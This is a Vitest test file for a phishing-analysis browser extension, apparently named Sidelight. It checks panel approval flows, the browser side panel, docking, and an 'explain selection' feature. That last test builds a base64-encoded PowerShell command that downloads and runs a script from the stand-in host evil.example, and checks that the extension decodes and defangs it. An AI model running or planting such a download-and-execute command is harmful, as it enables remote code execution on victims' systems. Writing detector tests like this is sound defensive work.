import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { extensionId } from '../../scripts/practice/browser.ts';
import { Analyst, subjectOf } from './analyst.ts';

let analyst: Analyst;

beforeAll(async () => {
  analyst = await Analyst.atMailbox();
  await analyst.open('phish/account-limited.eml');
  await analyst.investigate();
  await analyst.verdict();
});
afterAll(() => analyst.close());

describe('the panel outside the page', () => {
  it('shows the same in a tab, where high impact can be approved', async () => {
    const worker = await analyst.practice.worker();
    const tab = await worker.evaluate(
      async (url) => (await chrome.tabs.query({})).find((t) => t.url?.startsWith(url))?.id,
      analyst.page.url().split('#')[0] ?? '',
    );
    const page = await analyst.practice.context.newPage();
    await page.goto(`chrome-extension://${extensionId}/panel.html?tab=${tab}`);
    await page.locator('[data-verdict="malicious"]').waitFor();
    const high = page.locator('.action.high').first();
    await high.getByRole('button', { name: 'Approve', exact: true }).click();
    await high.getByText(/Approved by an analyst, signed/).waitFor();
    // The docked panel is told too.
    await (await analyst.panel())
      .getByText(/Approved by an analyst, signed/)
      .first()
      .waitFor();
    await page.close();
  });

  it('opens as the browser’s own side panel from the docked one', async () => {
    const panel = await analyst.panel();
    await panel.getByRole('button', { name: 'Open in the browser’s side panel' }).click();
    const worker = await analyst.practice.worker();
    await expect
      .poll(() =>
        worker.evaluate(
          async () =>
            (await chrome.runtime.getContexts({ contextTypes: ['SIDE_PANEL' as chrome.runtime.ContextType] })).length,
        ),
      )
      .toBe(1);
    await expect.poll(() => analyst.page.locator('sidelight-panel').count()).toBe(0);
    // With a panel beside the page, a press on the launcher docks no second one.
    await analyst.page.bringToFront();
    await analyst.investigate();
    await analyst.page.waitForTimeout(800);
    expect(await analyst.page.locator('sidelight-panel').count()).toBe(0);
    await worker.evaluate(async () =>
      chrome.sidePanel.close({ windowId: (await chrome.windows.getCurrent()).id ?? 0 }),
    );
    await expect
      .poll(() =>
        worker.evaluate(
          async () =>
            (await chrome.runtime.getContexts({ contextTypes: ['SIDE_PANEL' as chrome.runtime.ContextType] })).length,
        ),
      )
      .toBe(0);
  });
});

describe('explain selection', () => {
  it('says what a selection holds, its encodings undone', async () => {
    const worker = await analyst.practice.worker();
    await analyst.page.bringToFront();
    await worker.evaluate(async (url) => {
      const tab = (await chrome.tabs.query({})).find((t) => t.url?.startsWith(url));
      const encoded = btoa('powershell iwr https://evil.example/run.ps1 | iex');
      (chrome.contextMenus.onClicked as unknown as { dispatch(info: object, tab: unknown): void }).dispatch(
        { menuItemId: 'explain', selectionText: `cmd /c ${encoded} bit.ly hxxps://bit[.]ly/x 10.0.0.5` },
        tab,
      );
    }, analyst.page.url().split('#')[0] ?? '');
    const panel = await analyst.panel();
    await panel.getByText(/^Selection: cmd/).waitFor();
    const text = panel.locator('.indicators');
    await expect.poll(() => text.innerText()).toMatch(/hxxps:\/\/evil\[\.\]example\/run\.ps1/);
    expect(await text.innerText()).toMatch(/link shortener/);
    expect(await text.innerText()).toMatch(/internal or reserved address/);
  });
});

describe('the docked panel', () => {
  it('folds away, moves and is resized, and the page gets its room back', async () => {
    await analyst.investigate();
    const panel = await analyst.panel();
    await panel.locator('.alert .title', { hasText: await subjectOf('phish/account-limited.eml') }).waitFor();
    await analyst.verdict();
    const room = () =>
      analyst.page.evaluate(() => [
        document.documentElement.style.marginLeft,
        document.documentElement.style.marginRight,
      ]);
    await expect.poll(room).toEqual(['', '380px']);
    await panel.getByRole('button', { name: 'Fold away' }).click();
    await expect.poll(room).toEqual(['', '34px']);
    await panel.getByRole('button', { name: 'Unfold Sidelight' }).click();
    await panel.getByRole('button', { name: 'Move to the left' }).click();
    await expect.poll(room).toEqual(['380px', '']);
    await panel.getByRole('separator', { name: 'Width of the panel' }).focus();
    await analyst.page.keyboard.press('ArrowRight');
    await expect.poll(room).toEqual(['400px', '']);
    await panel.getByRole('button', { name: 'Move to the right' }).click();
    await expect.poll(room).toEqual(['', '400px']);
  });
});
